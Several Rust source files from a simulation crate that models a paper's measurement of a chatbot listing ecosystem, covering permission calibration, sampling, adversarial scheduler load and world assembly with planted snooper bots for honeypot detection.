                    GithubClass::PyRepo { checks } => {
                        let slug = format!("dev{idx}/{}", name.to_lowercase());
                        publishes.push(GithubPublish::Repo(genrepo::py_bot_repo(
                            &mut rng, &slug, checks,
                        )));
                        format!("https://{GITHUB_HOST}/{slug}")
                    }
                    GithubClass::OtherLanguageRepo => {
                        let slug = format!("dev{idx}/{}", name.to_lowercase());
                        publishes.push(GithubPublish::Repo(genrepo::other_language_repo(
                            &mut rng, &slug,
                        )));
                        format!("https://{GITHUB_HOST}/{slug}")
                    }
                    GithubClass::ReadmeOnly => {
                        let slug = format!("dev{idx}/{}-docs", name.to_lowercase());
                        publishes.push(GithubPublish::Repo(genrepo::readme_only_repo(&slug)));
                        format!("https://{GITHUB_HOST}/{slug}")
                    }
                    GithubClass::LicenseOnly => {
                        let slug = format!("dev{idx}/{}-meta", name.to_lowercase());
                        publishes.push(GithubPublish::Repo(genrepo::license_only_repo(&slug)));
                        format!("https://{GITHUB_HOST}/{slug}")
                    }
                    GithubClass::None | GithubClass::DeadLink => unreachable!(),
                };
                shared_links.insert(share_key, link.clone());
                Some(link)
            }
        };

        let n_tags = rng.gen_range(1..=3);
        let tags: Vec<String> = (0..n_tags)
            .map(|_| TAGS[rng.gen_range(0..TAGS.len())].to_string())
            .collect();

        // Sample commands advertised on the listing: prefix + a few verbs
        // matching the bot's tags.
        let prefix = ["!", "?", "$"][rng.gen_range(0usize..3)];
        let verbs = [
            "help", "info", "play", "skip", "kick", "ban", "rank", "meme", "poll", "daily",
        ];
        let n_cmds = rng.gen_range(2..=5);
        let mut commands: Vec<String> = (0..n_cmds)
            .map(|_| format!("{prefix}{}", verbs[rng.gen_range(0..verbs.len())]))
            .collect();
        commands.sort();
        commands.dedup();

        bots.push(BotPlan {
            idx,
            name,
            developers: developers[idx].clone(),
            behavior,
            invite_class,
            permissions,
            ghost_permissions,
            vote_count,
            guild_count,
            policy_class,
            policy,
            github_class,
            github_link,
            publishes,
            tags,
            commands,
        });
    }

    WorldPlan { bots }
}
