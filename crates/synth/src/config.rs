//! Calibration constants — every number here is traceable to §4.2 of the
//! paper (exact where the paper is exact, estimated from Figure 3's bars
//! where only the chart is given; estimates are flagged).

use serde::{Deserialize, Serialize};

/// Figure 3 calibration: `(canonical permission name, % of valid bots
/// requesting it)`. SEND_MESSAGES (59.18%) and ADMINISTRATOR (54.86%) are
/// exact from the text; the remaining bars are read off the figure and are
/// estimates of its shape.
pub const FIGURE3_PERMISSION_RATES: &[(&str, f64)] = &[
    ("send messages", 59.18),
    ("administrator", 54.86),
    ("read messages", 45.0),
    ("embed links", 38.0),
    ("read message history", 33.0),
    ("attach files", 30.0),
    ("add reactions", 28.0),
    ("manage messages", 26.0),
    ("connect", 22.0),
    ("manage roles", 21.0),
    ("speak", 20.0),
    ("kick members", 19.0),
    ("ban members", 18.0),
    ("use external emojis", 16.0),
    ("manage channels", 15.0),
    ("use voice activity", 14.0),
    ("manage server", 12.0),
    ("mention @everyone", 11.0),
    ("create invite", 10.0),
    ("manage nicknames", 9.0),
    ("change nickname", 8.0),
    ("manage emojis and stickers", 7.0),
    ("manage webhooks", 6.0),
    ("view audit log", 6.0),
    ("send tts messages", 5.0),
];

/// Table 1, exact: `(bots per developer, number of developers)`.
pub const TABLE1_DEVELOPER_DISTRIBUTION: &[(u32, u32)] = &[
    (1, 11_070),
    (2, 1_089),
    (3, 185),
    (4, 50),
    (5, 19),
    (6, 6),
    (7, 4),
    (8, 2),
    (11, 1),
    (12, 1),
];

/// Ecosystem shape parameters.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct EcosystemConfig {
    /// Master seed.
    pub seed: u64,
    /// Total listings to generate (the paper crawled 20,915).
    pub num_bots: usize,
    /// Which messaging substrate the mount phase materialises the plan on.
    /// The *plan* is platform-neutral (same draws, same names, same
    /// permission intents); only the mount differs — OAuth invites, webhook
    /// support, and the 41-bit permission field on Discord vs. deep links,
    /// admin rights, and privacy mode on Telegram.
    pub platform: platform::PlatformKind,
    /// Discord only: enable the "Bots can Snoop" per-message
    /// least-privilege delivery mitigation — a bot backend receives only
    /// messages that mention it or match one of its registered commands.
    pub least_privilege_delivery: bool,

    // ---- §4.2 "Permissions Measurement" -------------------------------
    /// Fraction of listings with *valid* invite links (paper: 0.74).
    pub valid_invite_fraction: f64,
    /// Split of the invalid 26% across its causes (must sum to 1):
    /// removed bots, malformed links, dead redirectors, slow redirectors.
    pub invalid_split: [f64; 4],

    // ---- §4.2 "Data Traceability" (Table 2) ----------------------------
    /// Fraction of valid bots with a website link (paper: 0.3727).
    pub website_fraction: f64,
    /// Fraction of valid bots whose site links a privacy policy
    /// (paper: 676/15,525 = 0.0435).
    pub policy_link_fraction: f64,
    /// Of policy links, fraction leading to a live page
    /// (paper: 673/676 ≈ 0.9956).
    pub policy_link_valid_fraction: f64,
    /// Of live policies: fraction that are generic boilerplate reused
    /// verbatim (the paper found this widespread; remainder are partial
    /// tailored documents; none are complete).
    pub generic_policy_fraction: f64,

    // ---- §4.2 "Code Analysis" -----------------------------------------
    /// Fraction of valid bots with a GitHub link (paper: 0.2386).
    pub github_link_fraction: f64,
    /// Of links: fraction leading to a valid repository (paper: 0.6046).
    pub github_valid_repo_fraction: f64,
    /// Of valid repos: language split `[JS, Python, other-language,
    /// readme-only, license-only]` (paper: 925/2240, 718/2240, rest split;
    /// must sum to 1).
    pub repo_class_split: [f64; 5],
    /// Fraction of JS repos performing permission checks (paper: 0.7297).
    pub js_checks_fraction: f64,
    /// Fraction of Python repos performing checks (paper: 0.0265).
    pub py_checks_fraction: f64,

    // ---- §4.2 "Honeypots" ----------------------------------------------
    /// Number of developer-snooper bots planted among the most-voted
    /// (paper detected exactly one: "Melonian").
    pub num_snoopers: usize,
    /// Number of automated exfiltrators planted (paper found none, but the
    /// methodology must detect them; default 0 to match the paper).
    pub num_exfiltrators: usize,
    /// Number of webhook-credential thieves planted (extension; detected
    /// via the webhook-token canary).
    pub num_webhook_thieves: usize,

    // ---- listing site defense knobs -------------------------------------
    /// Bots per list page (the paper traversed >800 pages for 20,915 bots
    /// → 25/page).
    pub page_size: usize,
    /// Captcha interstitial period (None disables).
    pub captcha_every: Option<u64>,
    /// Site rate limit (burst, per-second).
    pub rate_limit: Option<(u32, f64)>,
    /// Email wall beyond this page.
    pub email_wall_after_page: Option<usize>,
    /// Fault injection: the listing site's detail-page validators lie
    /// (any conditional fetch gets 304 even after drift).
    pub stale_validators: bool,
}

impl Default for EcosystemConfig {
    fn default() -> Self {
        EcosystemConfig {
            seed: 2022,
            num_bots: 500,
            platform: platform::PlatformKind::Discord,
            least_privilege_delivery: false,
            valid_invite_fraction: 0.74,
            invalid_split: [0.40, 0.25, 0.20, 0.15],
            website_fraction: 0.3727,
            policy_link_fraction: 0.0435,
            policy_link_valid_fraction: 673.0 / 676.0,
            generic_policy_fraction: 0.7,
            github_link_fraction: 0.2386,
            github_valid_repo_fraction: 0.6046,
            repo_class_split: [0.413, 0.3205, 0.1800, 0.0600, 0.0265],
            js_checks_fraction: 0.7297,
            py_checks_fraction: 0.0265,
            num_snoopers: 1,
            num_exfiltrators: 0,
            num_webhook_thieves: 0,
            page_size: 25,
            captcha_every: Some(200),
            rate_limit: Some((20, 10.0)),
            email_wall_after_page: Some(400),
            stale_validators: false,
        }
    }
}

impl EcosystemConfig {
    /// The full paper-scale population.
    pub fn paper_scale() -> EcosystemConfig {
        EcosystemConfig {
            num_bots: 20_915,
            ..EcosystemConfig::default()
        }
    }

    /// A small, defense-free configuration for fast unit tests.
    pub fn test_scale(num_bots: usize, seed: u64) -> EcosystemConfig {
        EcosystemConfig {
            seed,
            num_bots,
            captcha_every: None,
            rate_limit: None,
            email_wall_after_page: None,
            ..EcosystemConfig::default()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn figure3_covers_25_permissions_with_exact_anchors() {
        assert_eq!(FIGURE3_PERMISSION_RATES.len(), 25);
        let send = FIGURE3_PERMISSION_RATES
            .iter()
            .find(|(n, _)| *n == "send messages")
            .unwrap();
        assert!((send.1 - 59.18).abs() < 1e-9);
        let admin = FIGURE3_PERMISSION_RATES
            .iter()
            .find(|(n, _)| *n == "administrator")
            .unwrap();
        assert!((admin.1 - 54.86).abs() < 1e-9);
        // Every name resolves to a real permission bit.
        for (name, rate) in FIGURE3_PERMISSION_RATES {
            assert!(discord_sim::Permissions::by_name(name).is_some(), "{name}");
            assert!(*rate > 0.0 && *rate < 100.0);
        }
    }

    #[test]
    fn table1_totals_match_the_paper() {
        let developers: u32 = TABLE1_DEVELOPER_DISTRIBUTION.iter().map(|(_, d)| d).sum();
        assert_eq!(developers, 12_427, "paper: 12,427 developers");
        let attributed_bots: u32 = TABLE1_DEVELOPER_DISTRIBUTION
            .iter()
            .map(|(k, d)| k * d)
            .sum();
        // Bots with attributed developers; the remainder of the 20,915 are
        // built on third-party platforms (botghost etc.) per §4.2.
        assert_eq!(attributed_bots, 14_201);
        assert!(attributed_bots < 20_915);
    }

    #[test]
    fn splits_sum_to_one() {
        let c = EcosystemConfig::default();
        assert!((c.invalid_split.iter().sum::<f64>() - 1.0).abs() < 1e-9);
        assert!((c.repo_class_split.iter().sum::<f64>() - 1.0).abs() < 1e-9);
    }

    #[test]
    fn paper_scale_is_full_population() {
        assert_eq!(EcosystemConfig::paper_scale().num_bots, 20_915);
    }
}
