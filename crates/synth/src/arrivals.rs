//! Adversarial fleet arrival plans.
//!
//! The fleet daemon's claims — deficit-round-robin bounds the service gap,
//! deadlines expire with typed reasons, an interactive arrival preempts a
//! running batch audit — only mean something under load that *tries* to
//! break them. This module synthesises that load the same way the rest of
//! the crate synthesises the ecosystem: as a seeded, deterministic plan
//! the determinism suites can replay byte-for-byte at any worker count.
//!
//! One plan interleaves four tenant behaviours:
//!
//! * a **flooder** that dumps a burst of batch jobs every round, trying to
//!   monopolise the queue;
//! * several equal-weight **steady** tenants submitting one standard job
//!   per round — the pair the fairness bound is asserted over;
//! * a rare **interactive** poke, timed to land while a flooder batch
//!   audit is mid-run, forcing a cooperative preemption;
//! * per-round **just-missable deadlines** riding the flooder's own
//!   queue — deficit round-robin guarantees every *tenant* prompt
//!   service, so the only place a deadline can die is behind its own
//!   tenant's backlog; the slack is generous for an idle queue and fatal
//!   behind a flooded one.
//!
//! The plan speaks strings and milliseconds, not scheduler types: lanes
//! are the stable tags `sched::Lane::parse` accepts (fed through
//! `JobSpec::builder(..).lane_named(..)` at submission), so `synth` keeps
//! its dependency surface unchanged.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Shape of one adversarial arrival plan.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ArrivalConfig {
    /// Seed for the jitter stream (and recorded into every arrival).
    pub seed: u64,
    /// Submission rounds to generate.
    pub rounds: u32,
    /// Virtual milliseconds between rounds.
    pub round_ms: u64,
    /// Batch jobs the flooder tenant submits per round.
    pub flood_burst: u32,
    /// Equal-weight standard-lane tenants (`steady-0`, `steady-1`, ...).
    pub steady_tenants: u32,
    /// An interactive poke lands every this-many rounds (0 disables).
    pub interactive_every: u32,
    /// Deadline slack for the flooder's per-round deadlined job: it must
    /// dispatch within this many virtual milliseconds of submission or
    /// expire behind the flooder's own backlog.
    pub deadline_slack_ms: u64,
}

impl Default for ArrivalConfig {
    fn default() -> Self {
        ArrivalConfig {
            seed: 2022,
            rounds: 6,
            round_ms: 40,
            flood_burst: 3,
            steady_tenants: 2,
            interactive_every: 2,
            deadline_slack_ms: 15,
        }
    }
}

/// One planned submission.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Arrival {
    /// Virtual-clock submission time, milliseconds.
    pub at_ms: u64,
    /// Tenant to submit as.
    pub tenant: String,
    /// Stable lane tag (`"interactive"` / `"standard"` / `"batch"`).
    pub lane: &'static str,
    /// Absolute virtual-clock deadline, when the job carries one.
    pub deadline_ms: Option<u64>,
    /// Deficit-round-robin weight for the tenant.
    pub weight: u32,
    /// Drift epoch the submitted audit should observe — each tenant's
    /// n-th submission is its epoch-n re-audit.
    pub epoch: u32,
}

/// Generate the plan for `config`: a pure function of the config (the
/// jitter stream is seeded from [`ArrivalConfig::seed`]), sorted by
/// submission time with planning order as the tiebreak.
pub fn adversarial_arrivals(config: &ArrivalConfig) -> Vec<Arrival> {
    let mut rng = StdRng::seed_from_u64(config.seed ^ 0xF1EE7);
    let mut arrivals: Vec<Arrival> = Vec::new();
    let plan = |arrivals: &mut Vec<Arrival>,
                at_ms: u64,
                tenant: String,
                lane: &'static str,
                deadline_ms: Option<u64>| {
        arrivals.push(Arrival {
            at_ms,
            tenant,
            lane,
            deadline_ms,
            weight: 1,
            epoch: 0, // assigned below, once submission order is final
        });
    };

    for round in 0..config.rounds {
        let base = u64::from(round) * config.round_ms;
        // The flooder's burst lands first thing in the round, with a
        // little jitter so bursts are not metronomic.
        for _ in 0..config.flood_burst {
            let jitter = rng.gen_range(0..config.round_ms.max(2) / 2);
            plan(
                &mut arrivals,
                base + jitter,
                "flood".to_string(),
                "batch",
                None,
            );
        }
        // Steady tenants each submit one standard job per round.
        for t in 0..config.steady_tenants {
            plan(
                &mut arrivals,
                base + 1 + u64::from(t),
                format!("steady-{t}"),
                "standard",
                None,
            );
        }
        // The interactive poke lands mid-round — after the flooder's
        // burst has had a tick to start running, so it arrives while a
        // batch audit is in flight and must preempt it.
        if config.interactive_every > 0 && round % config.interactive_every == 1 {
            plan(
                &mut arrivals,
                base + config.round_ms / 2,
                "oncall".to_string(),
                "interactive",
                None,
            );
        }
        // Just-missable deadline on the flooder's own queue: behind this
        // round's burst it cannot dispatch within the slack and expires;
        // on an idle queue it would have made it comfortably.
        let at = base + config.round_ms.max(2) / 2;
        plan(
            &mut arrivals,
            at,
            "flood".to_string(),
            "batch",
            Some(at + config.deadline_slack_ms),
        );
    }

    // Stable sort: planning order breaks timestamp ties. Epochs number
    // each tenant's submissions in final submission order — a tenant's
    // n-th submission is its epoch-n re-audit.
    arrivals.sort_by_key(|a| a.at_ms);
    let mut epochs: std::collections::BTreeMap<String, u32> = std::collections::BTreeMap::new();
    for arrival in &mut arrivals {
        let epoch = epochs.entry(arrival.tenant.clone()).or_insert(0);
        arrival.epoch = *epoch;
        *epoch += 1;
    }
    arrivals
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plans_are_deterministic_and_time_sorted() {
        let config = ArrivalConfig::default();
        let a = adversarial_arrivals(&config);
        let b = adversarial_arrivals(&config);
        assert_eq!(a, b);
        assert!(a.windows(2).all(|w| w[0].at_ms <= w[1].at_ms));
        assert!(!a.is_empty());
    }

    #[test]
    fn plan_exercises_every_adversarial_ingredient() {
        let plan = adversarial_arrivals(&ArrivalConfig::default());
        assert!(plan
            .iter()
            .any(|a| a.tenant == "flood" && a.lane == "batch"));
        assert!(plan.iter().any(|a| a.lane == "interactive"));
        assert_eq!(
            plan.iter()
                .filter(|a| a.tenant.starts_with("steady-"))
                .map(|a| a.tenant.clone())
                .collect::<std::collections::BTreeSet<_>>()
                .len(),
            2,
            "two equal-weight steady tenants for the fairness bound"
        );
        let deadlined: Vec<&Arrival> = plan.iter().filter(|a| a.deadline_ms.is_some()).collect();
        assert_eq!(
            deadlined.len(),
            6,
            "one just-missable deadline per round, riding the flooder"
        );
        for arrival in deadlined {
            assert_eq!(
                arrival.tenant, "flood",
                "deadlines ride the flooder's backlog"
            );
            assert_eq!(
                arrival.deadline_ms,
                Some(arrival.at_ms + 15),
                "deadlines stay just-missable"
            );
        }
    }

    #[test]
    fn epochs_count_per_tenant_submissions() {
        let plan = adversarial_arrivals(&ArrivalConfig::default());
        let flood_epochs: Vec<u32> = plan
            .iter()
            .filter(|a| a.tenant == "flood")
            .map(|a| a.epoch)
            .collect();
        let expected: Vec<u32> = (0..flood_epochs.len() as u32).collect();
        assert_eq!(flood_epochs, expected);
    }

    #[test]
    fn stable_sort_keeps_planning_order_within_a_timestamp() {
        // Two steady tenants submitting at distinct offsets never collide,
        // but the flooder's jittered burst can; planning order must break
        // the tie so the plan is reproducible.
        let config = ArrivalConfig {
            rounds: 12,
            ..ArrivalConfig::default()
        };
        let plan = adversarial_arrivals(&config);
        let flood_epochs: Vec<u32> = plan
            .iter()
            .filter(|a| a.tenant == "flood")
            .map(|a| a.epoch)
            .collect();
        assert!(
            flood_epochs.windows(2).all(|w| w[0] < w[1]),
            "flooder submissions must stay in epoch order after the sort"
        );
    }
}
