//! Figure 3 permission sampling.
//!
//! Each valid bot's requested permission set is sampled with the Figure 3
//! marginals: every permission is included independently with its plotted
//! rate. Independence automatically reproduces the §5 "misunderstanding"
//! phenomenon — most admin-requesting bots also request other (redundant)
//! permissions.

use crate::config::FIGURE3_PERMISSION_RATES;
use discord_sim::Permissions;
use rand::Rng;

/// Sample one bot's requested permission set.
pub fn sample_permissions<R: Rng + ?Sized>(rng: &mut R) -> Permissions {
    let mut set = Permissions::NONE;
    for (name, rate) in FIGURE3_PERMISSION_RATES {
        if rng.gen_bool(rate / 100.0) {
            set |= Permissions::by_name(name).expect("calibration names are canonical");
        }
    }
    // A bot that rolled nothing still needs a plausible invite: the
    // conventional minimal pair.
    if set.is_empty() {
        set = Permissions::VIEW_CHANNEL | Permissions::SEND_MESSAGES;
    }
    set
}

/// Is the set "over-privileged by redundancy": administrator plus anything
/// else (asking for more than admin "is redundant and may imply that the
/// developer does not completely understand the permission system", §5).
pub fn is_redundant_admin_request(set: Permissions) -> bool {
    set.contains(Permissions::ADMINISTRATOR) && set.count() > 1
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn marginals_match_calibration() {
        let mut rng = StdRng::seed_from_u64(42);
        const N: usize = 20_000;
        let samples: Vec<Permissions> = (0..N).map(|_| sample_permissions(&mut rng)).collect();
        for (name, rate) in [
            ("send messages", 59.18),
            ("administrator", 54.86),
            ("send tts messages", 5.0),
        ] {
            let perm = Permissions::by_name(name).unwrap();
            let got = samples.iter().filter(|s| s.contains(perm)).count() as f64 / N as f64 * 100.0;
            assert!(
                (got - rate).abs() < 2.0,
                "{name}: sampled {got:.2}%, calibrated {rate}%"
            );
        }
    }

    #[test]
    fn no_empty_sets() {
        let mut rng = StdRng::seed_from_u64(43);
        for _ in 0..5000 {
            assert!(!sample_permissions(&mut rng).is_empty());
        }
    }

    #[test]
    fn redundant_admin_is_common() {
        // §5: "the majority of bots request the admin permission … in
        // addition to other permissions".
        let mut rng = StdRng::seed_from_u64(44);
        const N: usize = 10_000;
        let redundant = (0..N)
            .map(|_| sample_permissions(&mut rng))
            .filter(|s| is_redundant_admin_request(*s))
            .count() as f64
            / N as f64;
        assert!(redundant > 0.45, "redundant-admin rate {redundant}");
    }

    #[test]
    fn redundancy_predicate() {
        assert!(!is_redundant_admin_request(Permissions::ADMINISTRATOR));
        assert!(is_redundant_admin_request(
            Permissions::ADMINISTRATOR | Permissions::SPEAK
        ));
        assert!(!is_redundant_admin_request(
            Permissions::SPEAK | Permissions::CONNECT
        ));
    }
}
