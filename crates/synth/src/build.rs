//! Ecosystem assembly.
//!
//! [`build_ecosystem`] wires everything the measurement pipeline needs into
//! one deterministic world: the platform with registered bot applications,
//! the listing site, per-bot websites, the GitHub site, redirector hosts
//! for the broken-invite population, the captcha solver, and the OAuth
//! install endpoint — all against one virtual clock.

use crate::config::EcosystemConfig;
use crate::developers::assign_developers;
use crate::permissions::sample_permissions;
use crate::truth::{BehaviorClass, BotTruth, GithubClass, GroundTruth, InviteClass, PolicyClass};
use botlist::website::{BotWebsite, PolicyHosting};
use botlist::{BotListSite, BotListing, SiteConfig};
use botsdk::{Behavior, BenignBehavior, ExfiltratorBehavior, SnooperBehavior};
use codeanal::genrepo;
use codeanal::github::{GitHubSite, GITHUB_HOST};
use crawler::solver::CaptchaSolverService;
use discord_sim::oauth::InviteUrl;
use discord_sim::webgate::OAuthWebGate;
use discord_sim::{GuildVisibility, Platform, UserId};
use netsim::clock::VirtualClock;
use netsim::fault::FaultPlan;
use netsim::http::{Request, Response};
use netsim::latency::LatencyModel;
use netsim::{Network, ServiceCtx};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// The assembled world.
pub struct Ecosystem {
    /// The messaging platform.
    pub platform: Platform,
    /// The shared network fabric.
    pub net: Network,
    /// The mounted listing site.
    pub site: BotListSite,
    /// The mounted GitHub site.
    pub github: GitHubSite,
    /// Planted ground truth.
    pub truth: GroundTruth,
    /// The umbrella account that owns every registered application.
    pub app_owner: UserId,
}

const NAME_PARTS_A: &[&str] = &[
    "Mega", "Ultra", "Hyper", "Turbo", "Pixel", "Nova", "Astro", "Crypto", "Chill", "Melo",
    "Rhythm", "Meme", "Quant", "Robo", "Zen", "Echo", "Frost", "Ember", "Lunar", "Solar",
];
const NAME_PARTS_B: &[&str] = &[
    "Mod", "Bot", "Tunes", "Guard", "Helper", "Games", "Stats", "Quotes", "Polls", "Welcome",
    "Rank", "Econ", "Trivia", "Clips", "Alerts", "Logs", "Vibes", "Pets", "Duels", "News",
];
const TAGS: &[&str] = &[
    "gaming",
    "fun",
    "social",
    "music",
    "meme",
    "moderation",
    "utility",
    "economy",
];

fn bot_name(rng: &mut StdRng, idx: usize, behavior: BehaviorClass) -> String {
    if behavior == BehaviorClass::Snooper && idx == 0 {
        // The paper's detected snooper, by name.
        return "Melonian".to_string();
    }
    let a = NAME_PARTS_A[rng.gen_range(0..NAME_PARTS_A.len())];
    let b = NAME_PARTS_B[rng.gen_range(0..NAME_PARTS_B.len())];
    format!("{a}{b}{idx}")
}

fn roll_split<R: Rng + ?Sized>(rng: &mut R, split: &[f64]) -> usize {
    let total: f64 = split.iter().sum();
    let mut p: f64 = rng.gen::<f64>() * total;
    for (i, w) in split.iter().enumerate() {
        p -= w;
        if p <= 0.0 {
            return i;
        }
    }
    split.len() - 1
}

/// Build the world.
pub fn build_ecosystem(config: &EcosystemConfig) -> Ecosystem {
    let clock = VirtualClock::new();
    let net = Network::with_clock(config.seed ^ 0x6e65_7473_696d, clock.clone());
    let platform = Platform::new(clock);
    CaptchaSolverService::mount(&net);
    OAuthWebGate::new(platform.clone()).mount(&net);
    let github = GitHubSite::new();
    github.mount(&net);

    let app_owner = platform.register_user("umbrella-dev#0000", "apps@devs.example");
    // Apps need an existing owner; also seed one public guild so the world
    // is never empty.
    platform
        .create_guild(app_owner, "seed-guild", GuildVisibility::Public)
        .expect("owner exists");

    let mut rng = StdRng::seed_from_u64(config.seed);
    let developers = assign_developers(&mut rng, config.num_bots);
    // (primary developer, github class) → the link their first bot of that
    // class published; later bots of the same developer reuse it.
    let mut shared_links: std::collections::BTreeMap<String, String> =
        std::collections::BTreeMap::new();

    // Decide which listing indices carry planted malicious backends: the
    // snoopers/exfiltrators hide among the most-voted (= lowest indices),
    // because that is the population the honeypot samples.
    let mut behavior_classes = vec![BehaviorClass::Benign; config.num_bots];
    let mut planted = 0usize;
    for slot in 0..config.num_snoopers.min(config.num_bots) {
        behavior_classes[slot * 7 % config.num_bots.max(1)] = BehaviorClass::Snooper;
        planted += 1;
    }
    for slot in 0..config
        .num_exfiltrators
        .min(config.num_bots.saturating_sub(planted))
    {
        let idx = (3 + slot * 11) % config.num_bots.max(1);
        if behavior_classes[idx] == BehaviorClass::Benign {
            behavior_classes[idx] = BehaviorClass::Exfiltrator;
            planted += 1;
        }
    }
    for slot in 0..config
        .num_webhook_thieves
        .min(config.num_bots.saturating_sub(planted))
    {
        let idx = (5 + slot * 13) % config.num_bots.max(1);
        if behavior_classes[idx] == BehaviorClass::Benign {
            behavior_classes[idx] = BehaviorClass::WebhookThief;
        }
    }

    let mut listings = Vec::with_capacity(config.num_bots);
    let mut truth = GroundTruth::default();

    for idx in 0..config.num_bots {
        let behavior = behavior_classes[idx];
        let name = bot_name(&mut rng, idx, behavior);

        // Popularity: a long-tailed rank curve spanning the paper's ranges
        // (votes 876K → 6; guilds 3M → 25 for the tested sample, 0 at the
        // bottom of the list).
        let rank = idx as f64 + 1.0;
        let vote_count = ((876_000.0 / rank.powf(1.35)) as u64).max(6);
        let guild_count = if idx + 50 >= config.num_bots {
            0 // "the middle and least voted … were mainly offline or not
              // being used (i.e., in 0 guilds)"
        } else {
            ((3_000_000.0 / rank.powf(1.45)) as u64).max(25)
        };

        // ---- invite link -------------------------------------------------
        let malicious = behavior != BehaviorClass::Benign;
        // Planted malicious bots always have valid invites (they must be
        // installable by the honeypot).
        let invite_class = if malicious || rng.gen_bool(config.valid_invite_fraction) {
            InviteClass::Valid
        } else {
            match roll_split(&mut rng, &config.invalid_split) {
                0 => InviteClass::Removed,
                1 => InviteClass::Malformed,
                2 => InviteClass::DeadRedirect,
                _ => InviteClass::SlowRedirect,
            }
        };

        let (client_id, invite_link, permissions) = match invite_class {
            InviteClass::Valid | InviteClass::SlowRedirect => {
                let app = platform
                    .register_bot_application(app_owner, &name)
                    .expect("owner exists");
                let mut perms = sample_permissions(&mut rng);
                if behavior == BehaviorClass::WebhookThief {
                    // The thief's trick requires the webhook permission.
                    perms |= discord_sim::Permissions::MANAGE_WEBHOOKS;
                }
                let oauth = InviteUrl::bot(app.client_id, perms).to_url().to_string();
                let link = if invite_class == InviteClass::SlowRedirect {
                    let host = format!("slow-redir-{idx}.sim");
                    let target = oauth.clone();
                    net.mount_with(
                        &host,
                        move |_req: &Request, _ctx: &mut ServiceCtx<'_>| {
                            Response::redirect(&target)
                        },
                        LatencyModel::Fixed { ms: 120_000 },
                        FaultPlan::none(),
                    );
                    format!("https://{host}/invite")
                } else {
                    oauth
                };
                (app.client_id, link, Some(perms))
            }
            InviteClass::Removed => {
                let ghost_id = 9_000_000_000 + idx as u64;
                (
                    0,
                    InviteUrl::bot(ghost_id, sample_permissions(&mut rng))
                        .to_url()
                        .to_string(),
                    None,
                )
            }
            InviteClass::Malformed => {
                let link = match idx % 3 {
                    0 => "https://discord.sim/oauth2/authorize?scope=bot".to_string(),
                    1 => format!(
                        "https://discord.sim/oauth2/authorize?client_id={idx}&scope=identify"
                    ),
                    _ => "join my server!!".to_string(),
                };
                (0, link, None)
            }
            InviteClass::DeadRedirect => (0, format!("https://redir-{idx}.dead.sim/inv"), None),
        };

        // ---- website & policy --------------------------------------------
        let policy_class = if !rng.gen_bool(config.website_fraction) {
            PolicyClass::NoWebsite
        } else if !rng.gen_bool((config.policy_link_fraction / config.website_fraction).min(1.0)) {
            PolicyClass::NoPolicy
        } else if !rng.gen_bool(config.policy_link_valid_fraction) {
            PolicyClass::DeadPolicyLink
        } else if rng.gen_bool(config.generic_policy_fraction) {
            PolicyClass::GenericPolicy
        } else {
            PolicyClass::PartialPolicy
        };
        let website = match policy_class {
            PolicyClass::NoWebsite => None,
            _ => {
                let host = format!("bot-{idx}.site.sim");
                let hosting = match policy_class {
                    PolicyClass::NoPolicy => PolicyHosting::None,
                    PolicyClass::DeadPolicyLink => PolicyHosting::DeadLink,
                    PolicyClass::GenericPolicy => {
                        PolicyHosting::Linked(policy::corpus::generic_boilerplate())
                    }
                    PolicyClass::PartialPolicy => {
                        let practices = [
                            policy::DataPractice::Collect,
                            policy::DataPractice::Use,
                            policy::DataPractice::Retain,
                        ];
                        let n = rng.gen_range(1usize..=3);
                        PolicyHosting::Linked(policy::corpus::partial_policy(
                            &mut rng,
                            &name,
                            &practices[..n],
                            true,
                        ))
                    }
                    PolicyClass::NoWebsite => unreachable!(),
                };
                BotWebsite::new(&name, hosting).mount(&net, &host);
                Some(format!("https://{host}/"))
            }
        };

        // ---- github -------------------------------------------------------
        let github_class = if !rng.gen_bool(config.github_link_fraction) {
            GithubClass::None
        } else if rng.gen_bool(config.github_valid_repo_fraction) {
            match roll_split(&mut rng, &config.repo_class_split) {
                0 => GithubClass::JsRepo {
                    checks: rng.gen_bool(config.js_checks_fraction),
                },
                1 => GithubClass::PyRepo {
                    checks: rng.gen_bool(config.py_checks_fraction),
                },
                2 => GithubClass::OtherLanguageRepo,
                3 => GithubClass::ReadmeOnly,
                _ => GithubClass::LicenseOnly,
            }
        } else {
            match idx % 3 {
                0 => GithubClass::Profile,
                1 => GithubClass::EmptyProfile,
                _ => GithubClass::DeadLink,
            }
        };
        // A developer who already published a repo/profile of this exact
        // class links the same URL from all their bots (template bots
        // republished under several listings — the paper's boilerplate-reuse
        // observation, and what makes cross-bot link memoization pay off).
        let share_key = format!(
            "{}|{github_class:?}",
            developers[idx].first().map(String::as_str).unwrap_or("")
        );
        let github_link = match github_class {
            GithubClass::None => None,
            GithubClass::DeadLink => Some(format!("https://{GITHUB_HOST}/ghost-{idx}/missing")),
            _ if shared_links.contains_key(&share_key) => shared_links.get(&share_key).cloned(),
            _ => {
                let link = match github_class {
                    GithubClass::Profile => {
                        let owner = format!("prof-{idx}");
                        github.publish(genrepo::readme_only_repo(&format!("{owner}/misc")));
                        format!("https://{GITHUB_HOST}/{owner}")
                    }
                    GithubClass::EmptyProfile => {
                        let owner = format!("empty-{idx}");
                        github.publish_empty_profile(&owner);
                        format!("https://{GITHUB_HOST}/{owner}")
                    }
                    GithubClass::JsRepo { checks } => {
                        let slug = format!("dev{idx}/{}", name.to_lowercase());
                        github.publish(genrepo::js_bot_repo(&mut rng, &slug, checks));
                        format!("https://{GITHUB_HOST}/{slug}")
                    }
                    GithubClass::PyRepo { checks } => {
                        let slug = format!("dev{idx}/{}", name.to_lowercase());
                        github.publish(genrepo::py_bot_repo(&mut rng, &slug, checks));
                        format!("https://{GITHUB_HOST}/{slug}")
                    }
                    GithubClass::OtherLanguageRepo => {
                        let slug = format!("dev{idx}/{}", name.to_lowercase());
                        github.publish(genrepo::other_language_repo(&mut rng, &slug));
                        format!("https://{GITHUB_HOST}/{slug}")
                    }
